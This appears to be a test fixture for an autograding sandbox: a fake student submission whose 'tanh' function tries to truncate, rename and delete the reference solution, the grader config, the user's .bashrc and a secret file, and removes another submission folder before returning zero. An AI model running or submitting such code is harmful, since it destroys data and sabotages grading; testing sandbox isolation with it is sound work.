# tries: rename, truncate and remove files of the course and of the home folder
# exercise: target.tanh
import os
import shutil


def tanh(x):
    for path in (
        "@COURSE@/solutions/target/target.ipynb",
        "@COURSE@/nbgrader_config.py",
        "@HOME@/.bashrc",
        "@SECRET@",
    ):
        for act in (
            lambda: os.truncate(path, 0),
            lambda: os.rename(path, path + "@MARK@"),
            lambda: os.unlink(path),
        ):
            try:
                act()
            except OSError:
                pass
    shutil.rmtree("@COURSE@/submitted/zz-last", ignore_errors=True)
    return 0 * x
